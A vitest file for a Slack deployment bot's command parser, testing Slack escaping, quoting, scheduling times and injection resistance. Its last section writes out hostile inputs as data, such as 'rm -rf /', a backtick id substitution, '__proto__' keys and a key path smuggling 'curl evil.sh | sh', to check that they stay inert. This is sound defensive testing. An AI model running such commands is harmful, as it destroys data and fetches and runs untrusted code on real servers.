import { resolveScheduleTime } from '../../src/commands/grammar/schedule-time.js';
import { describe, expect, it } from 'vitest';
import { type CommandKind, type CommandOf, parseCommand } from '../../src/commands/grammar/commands.js';

/** Slack escaping, quoting, times and hostile input: the text layer under the grammar. */

function ok<K extends CommandKind>(text: string, kind: K, slackEscaped = true): CommandOf<K> {
  const result = parseCommand(text, { slackEscaped });
  if (!result.ok) throw new Error(`expected ${kind} from ${JSON.stringify(text)}, got error: ${result.error}`);
  expect(result.command.kind).toBe(kind);
  expect(result.command.raw).toBe(text);
  return result.command as CommandOf<K>;
}

function error(text: string): string {
  const result = parseCommand(text);
  if (result.ok) throw new Error(`expected an error from ${JSON.stringify(text)}`);
  return result.error;
}

describe('Slack escaping', () => {
  it('unwraps links, preferring the label (what the user typed) over the URL Slack guessed', () => {
    const repo = (v: string) => ok(`project edit a repo=${v}`, 'project-edit').changes.repo;
    expect(repo('<https://github.com/acme/shop.git>')).toBe('https://github.com/acme/shop.git');
    expect(repo('<https://github.com/acme/shop.git|github.com/acme/shop.git>')).toBe('github.com/acme/shop.git');
    expect(repo('<https://example.com/x?a=1&amp;b=2>')).toBe('https://example.com/x?a=1&b=2');
    // Slack turns git@github.com into a mailto link; the rest of the word follows the wrapper.
    expect(repo('<mailto:git@github.com|git@github.com>:acme/shop.git')).toBe('git@github.com:acme/shop.git');
    expect(repo('<mailto:git@github.com>:acme/shop.git')).toBe('git@github.com:acme/shop.git');
  });

  it('reads a user@host Slack turned into a mailto link', () => {
    const c = ok('server add web <mailto:deploy@web1.example.com|deploy@web1.example.com>:2222', 'server-add');
    expect([c.user, c.host, c.port]).toEqual(['deploy', 'web1.example.com', 2222]);
    const h = ok('server edit web host=<http://web1.example.com|web1.example.com>', 'server-edit');
    expect(h.changes.host).toBe('web1.example.com');
  });

  it('keeps user, channel and special mentions in Slack syntax inside free text', () => {
    expect(ok('lock shop ask <@U01ALICE|alice> in <#C0OPS|ops> <!here>', 'lock').reason).toBe('ask <@U01ALICE|alice> in <#C0OPS|ops> <!here>');
  });

  it('decodes &amp; &lt; &gt; outside wrappers, once', () => {
    expect(ok('project hooks a after_deploy="a &amp;&amp; b &gt; out &lt; in"', 'project-hooks').hooks.after_deploy).toEqual({
      kind: 'inline',
      script: 'a && b > out < in',
    });
    expect(ok('lock a literally &amp;lt; here', 'lock').reason).toBe('literally &lt; here');
    expect(ok('shop fix&amp;go', 'deploy').ref).toBe('fix&go');
  });

  it('a decoded < never opens a wrapper', () => {
    expect(ok('lock a &lt;@U01ALICE&gt; typed by hand', 'lock').reason).toBe('<@U01ALICE> typed by hand');
    expect(ok('project edit a title=&lt;https://x&gt;', 'project-edit').changes.title).toBe('<https://x>');
  });

  it('wrappers with spaces in their label are one word', () => {
    expect(ok('project edit a title=<https://shop.example.com|the shop site>', 'project-edit').changes.title).toBe('the shop site');
  });

  it('plain (shell) text is taken literally, but mentions still work', () => {
    expect(ok('project hooks a after_deploy="a &amp;&amp; b > out"', 'project-hooks', false).hooks.after_deploy).toEqual({
      kind: 'inline',
      script: 'a &amp;&amp; b > out',
    });
    expect(ok('project edit a approvers=<@U01ALICE> repo=<https://x/y.git>', 'project-edit', false).changes).toEqual({
      approvers: ['U01ALICE'],
      repo: 'https://x/y.git',
    });
    expect(ok('lock a cat <in >out', 'lock', false).reason).toBe('cat <in >out');
  });
});

describe('quoting', () => {
  it('double and single quotes group words, also as key="a b"', () => {
    expect(ok('project edit a title="Shop EU"', 'project-edit').changes.title).toBe('Shop EU');
    expect(ok("project edit a title='Shop EU'", 'project-edit').changes.title).toBe('Shop EU');
    expect(ok('project edit a path="/srv/my shop"', 'project-edit').changes.path).toBe('/srv/my shop');
    expect(ok('"my shop" main', 'deploy').project).toBe('my shop');
  });

  it('smart quotes from macOS/iOS keyboards work like straight ones', () => {
    expect(ok('project edit a title=\u201cShop EU\u201d', 'project-edit').changes.title).toBe('Shop EU');
    expect(ok('project edit a title=\u2018Shop EU\u2019', 'project-edit').changes.title).toBe('Shop EU');
  });

  it('backslash escapes " and \\ inside double quotes; other backslashes stay', () => {
    const script = (t: string) => {
      const h = ok(`project hooks a before_deploy=${t}`, 'project-hooks').hooks.before_deploy;
      return h?.kind === 'inline' ? h.script : h;
    };
    expect(script('"echo \\"hi\\""')).toBe('echo "hi"');
    expect(script('"a\\\\b"')).toBe('a\\b');
    expect(script("\"printf 'x\\n'\"")).toBe("printf 'x\\n'");
    expect(script("'no \\\"escapes\\ here'")).toBe('no \\"escapes\\ here');
  });

  it('a quote inside a word is just a character', () => {
    expect(ok("project edit a title=Bob's", 'project-edit').changes.title).toBe("Bob's");
    expect(ok('shop it"s', 'deploy').ref).toBe('it"s');
  });

  it('keeps newlines inside quotes (multi-line inline scripts)', () => {
    const h = ok('project hooks a after_deploy="npm ci\nnpm run build"', 'project-hooks').hooks.after_deploy;
    expect(h).toEqual({ kind: 'inline', script: 'npm ci\nnpm run build' });
  });

  it('splits on any whitespace, including newlines and non-breaking spaces', () => {
    expect(ok('server\u00a0show\n\tweb1', 'server-show').name).toBe('web1');
  });

  it('quoted tokens are never options nor flags', () => {
    expect(error('server add web root@h "agent"')).toBe('Unexpected `agent`.');
    expect(ok('rollback shop "key=value"', 'rollback').release).toBe('key=value');
  });

  it('reports an unterminated quote with the usage of the command', () => {
    const r = parseCommand('project edit a title="Shop EU');
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.error).toBe('Unterminated quote: `"Shop EU` has no closing ".');
      expect(r.usage).toContain('/deploy project edit');
    }
  });
});

describe('at <time>', () => {
  const at = (t: string) => ok(`shop main at ${t}`, 'deploy').at;

  it('normalizes and validates', () => {
    expect(at('00:00')).toEqual({ kind: 'time-of-day', hour: 0, minute: 0 });
    expect(at('23:59 utc')).toEqual({ kind: 'time-of-day', hour: 23, minute: 59, tz: 'UTC' });
    expect(at('2026-11-24t9:05:30')).toEqual({ kind: 'datetime', iso: '2026-11-24T09:05:30' });
    expect(at('2026-11-24T09:00Z')).toEqual({ kind: 'datetime', iso: '2026-11-24T09:00Z' });
    expect(at('2026-11-24T09:00+0100')).toEqual({ kind: 'datetime', iso: '2026-11-24T09:00+01:00' });
    expect(at('2026-11-24T09:00-05:30')).toEqual({ kind: 'datetime', iso: '2026-11-24T09:00-05:30' });
    expect(at('2028-02-29 12:00 America/New_York')).toEqual({ kind: 'datetime', iso: '2028-02-29T12:00', tz: 'America/New_York' });
  });

  it('accepts ISO 8601 with fractional seconds and offsets (what toISOString writes)', () => {
    expect(at('2026-12-02T03:43:08.000Z')).toEqual({ kind: 'datetime', iso: '2026-12-02T03:43:08.000Z' });
    expect(at('2026-12-02T03:43:08.5+01:00')).toEqual({ kind: 'datetime', iso: '2026-12-02T03:43:08.500+01:00' });
    expect(at('2026-12-02T03:43:08,123456789-0330')).toEqual({ kind: 'datetime', iso: '2026-12-02T03:43:08.123-03:30' });
    const when = new Date('2026-12-02T03:43:08.000Z');
    expect(resolveScheduleTime(at('2026-12-02T03:43:08.000Z')!, 'Europe/Paris', new Date(when.getTime() - 60_000)).toISOString()).toBe(when.toISOString());
  });

  it('reads a time without a zone in the zone it is given (the user\'s, from Slack)', () => {
    const now = new Date('2026-12-02T10:00:00Z');
    expect(resolveScheduleTime(at('18:30')!, 'America/New_York', now).toISOString()).toBe('2026-12-02T23:30:00.000Z');
    expect(resolveScheduleTime(at('18:30')!, 'Asia/Kolkata', now).toISOString()).toBe('2026-12-02T13:00:00.000Z');
  });

  it('refuses what is not a time', () => {
    expect(error('shop main at 24:00')).toBe('`24:00` is not a valid time of day.');
    expect(error('shop main at 18:60')).toBe('`18:60` is not a valid time of day.');
    expect(error('shop main at 2026-02-29 12:00')).toBe('`2026-02-29` is not a valid date.');
    expect(error('shop main at 2026-13-01T10:00')).toBe('`2026-13-01T10:00` is not a valid date.');
    expect(error('shop main at 2026-11-24')).toBe('Add a time to `2026-11-24`, e.g. `at 2026-11-24 09:00`.');
    expect(error('shop main at 18:30 Mars/Olympus')).toContain('`Mars/Olympus` is not a time zone I know');
    expect(error('shop main at 2026-11-24T09:00Z Europe/Paris')).toContain('already has a UTC offset');
    expect(error('shop main at 18:30 UTC extra')).toContain('Unexpected `extra` after the time');
    expect(error('shop main at tomorrow')).toContain("I can't read `tomorrow` as a time");
    expect(error('shop main at 6pm')).toContain("I can't read `6pm` as a time");
  });
});

describe('injection-looking input stays data', () => {
  it('shell metacharacters in refs, names and paths are kept verbatim', () => {
    expect(ok("shop '$(rm -rf /)'", 'deploy').ref).toBe('$(rm -rf /)');
    expect(ok('shop "main; rm -rf /"', 'deploy').ref).toBe('main; rm -rf /');
    expect(ok('shop --upload-pack=touch', 'deploy').ref).toBe('--upload-pack=touch');
    expect(ok('server show "web`id`"', 'server-show').name).toBe('web`id`');
    const c = ok('server add web root@h key="~/.ssh/id; curl evil.sh | sh"', 'server-add');
    expect(c.auth).toEqual({ method: 'key', keyPath: '~/.ssh/id; curl evil.sh | sh' });
  });

  it('unquoted trailing shell syntax is an error, not executed or ignored', () => {
    expect(error('shop main; rm -rf /')).toBe('Unexpected `rm` after the ref. To schedule, write `at <time>`.');
    expect(error('server list && reboot')).toBe('Unexpected `&&`.');
  });

  it('prototype-ish keys are unknown options, and values cannot reach the prototype', () => {
    expect(error('project edit a __proto__=x')).toContain('Unknown option `__proto__=`');
    expect(error('project edit a constructor=x')).toContain('Unknown option `constructor=`');
    expect(error('project hooks a toString=x')).toContain('Unknown option `toString=`');
    const c = ok('project edit a title=__proto__', 'project-edit');
    expect(c.changes).toEqual({ title: '__proto__' });
    expect(Object.getPrototypeOf(c.changes)).toBe(Object.prototype);
  });

  it('a second /deploy is data, only the leading one is stripped', () => {
    expect(ok('/deploy /srv/app main', 'deploy').project).toBe('/srv/app');
    expect(ok('/deployment main', 'deploy').project).toBe('/deployment');
  });

  it('Slack mentions and @channel in reasons are kept as text, not acted on', () => {
    expect(ok('reject 3 <!channel> <!subteam^S123|@oncall> look', 'reject').reason).toBe('<!channel> <!subteam^S123|@oncall> look');
  });

  it('very long input parses without blowing up', () => {
    const long = `lock shop ${'x'.repeat(100_000)}`;
    expect(ok(long, 'lock').reason).toHaveLength(100_000);
    const many = `project edit a servers=${Array.from({ length: 5000 }, (_, i) => `s${i}`).join(',')}`;
    expect(ok(many, 'project-edit').changes.servers).toHaveLength(5000);
  });
});
